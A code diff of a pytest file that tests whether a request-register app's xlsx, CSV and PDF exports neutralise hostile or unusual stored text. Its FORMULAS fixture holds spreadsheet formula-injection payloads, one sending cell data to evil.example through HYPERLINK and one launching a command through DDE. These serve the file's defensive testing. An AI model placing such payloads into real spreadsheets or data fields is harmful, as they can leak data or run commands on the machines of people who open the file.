@@ -26,10 +26,11 @@ from request_desk.core.storage.db import Database
 from request_desk.core.reports import export
 from request_desk.core.reports.common import Month
 from request_desk.core.reports.safe_text import csv_cell, safe_cell_text
-from tests.conftest import person_request
+from tests import factories
+from tests.factories import TODAY
 
-TODAY = date(2026, 11, 27)
 OCT = Month(2026, 10)
+IN_OCT = date(2026, 10, 9)  # received in the month exported
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
     "=cmd|' /C calc'!A0",
@@ -44,10 +45,6 @@ CONTROL_CLEAN = "第一行\n第二行空[31m红\n尾"
 FULL_ID, FULL_PHONE = "11010519491231002X", "13912345678"
 RARE = "王𠮷、𪚥、김민준、Łukasz Wójcik、Ωμέγα、Жанна、😀"
 NO_FONT = "\U00030000"  # CJK Extension G: no bundled font has it
-
-
-def register(db: Database, **fields: object) -> int:
-    return cases.register(db, person_request(date(2026, 10, 9), **fields), "clerk", today=TODAY).id or 0
 
 
 def store_raw(db: Database, request_id: int, column: str, value: str) -> None:
@@ -90,7 +87,7 @@ def pdf_text(path: Path) -> str:
 
 @pytest.fixture
 def formula_cases(db: Database) -> list[int]:
-    ids = [register(db, description=f, applicant_name=f"申请人{i}") for i, f in enumerate(FORMULAS)]
+    ids = [factories.register(db, IN_OCT, description=f, applicant_name=f"申请人{i}") for i, f in enumerate(FORMULAS)]
     for rid, f in zip(ids, FORMULAS):
         store_raw(db, rid, "note", f)  # exactly as typed, past any input normalisation
         store_raw(db, rid, "description", f)
@@ -142,7 +139,7 @@ def test_annual_html_and_xlsx_keep_a_hostile_agency_name_as_text(db: Database, t
 
 
 def test_publication_worklist_xlsx_keeps_formula_text_as_text(db: Database, tmp_path: Path) -> None:
-    rid = register(db, description="关于=SUM(1,2)的信息")
+    rid = factories.register(db, IN_OCT, description="关于=SUM(1,2)的信息")
     cases.reply(db, rid, "clerk", outcome_code="1", replied=date(2026, 10, 20), today=TODAY)
     worklist.raise_flag(db, rid, "clerk", reason="=HYPERLINK(\"http://x\",\"点\")")
     path = worklist.export_xlsx(db, tmp_path / "worklist.xlsx")
@@ -156,7 +153,7 @@ def test_publication_worklist_xlsx_keeps_formula_text_as_text(db: Database, tmp_
 
 @pytest.mark.parametrize("fmt", ["xlsx", "csv", "pdf"])
 def test_control_characters_in_the_database_do_not_block_an_export(db: Database, tmp_path: Path, fmt: str) -> None:
-    rid = register(db)
+    rid = factories.register(db, IN_OCT)
     for column in ("description", "applicant_name", "note"):
         store_raw(db, rid, column, CONTROL)
     path, summary = export_register(db, tmp_path, fmt)
@@ -178,7 +175,7 @@ def test_control_characters_in_the_database_do_not_block_an_export(db: Database,
 
 def test_a_very_long_description_is_cut_in_the_pdf_and_kept_whole_elsewhere(db: Database, tmp_path: Path) -> None:
     long_text = ("关于本市老旧小区改造项目资金使用情况的说明。" * 120)[:2500]
-    rid = register(db)
+    rid = factories.register(db, IN_OCT)
     store_raw(db, rid, "description", long_text)  # longer than the form allows: imported before the limit
     store_raw(db, rid, "note", "备注" * 800)
     path, _ = export_register(db, tmp_path, "pdf")
@@ -193,7 +190,7 @@ def test_a_very_long_description_is_cut_in_the_pdf_and_kept_whole_elsewhere(db: 
 
 
 def test_register_pdf_prints_rare_characters_from_the_fallback_fonts(db: Database, tmp_path: Path) -> None:
-    rid = register(db, applicant_name="王𠮷", description="申请人" + RARE)
+    rid = factories.register(db, IN_OCT, applicant_name="王𠮷", description="申请人" + RARE)
     store_raw(db, rid, "note", f"罕见字{NO_FONT}待核")
     path, summary = export_register(db, tmp_path, "pdf")
     content = pdf_text(path).replace("\n", "")
@@ -223,7 +220,7 @@ FREE_TEXT = f"本人身份证号{FULL_ID}，手机 139-1234-5678，请来电{FUL
 
 @pytest.fixture
 def numbers_in_free_text(db: Database) -> int:
-    rid = register(db, description=FREE_TEXT)
+    rid = factories.register(db, IN_OCT, description=FREE_TEXT)
     store_raw(db, rid, "note", f"申请人来电称新手机+86 {FULL_PHONE}，证件{FULL_ID}")
     return rid
 
@@ -261,7 +258,7 @@ def test_the_export_rule_is_the_input_rule() -> None:
 
 
 def test_stored_unicode_line_separators_export_as_line_breaks(db: Database, tmp_path: Path) -> None:
-    rid = register(db)
+    rid = factories.register(db, IN_OCT)
     store_raw(db, rid, "description", "第一段\u2028第二段\x1e第三段")  # stored past the input rule
     path, _ = export_register(db, tmp_path, "xlsx")
     assert "第一段\n第二段\n第三段" in [c.value for c in xlsx_cells(path)]
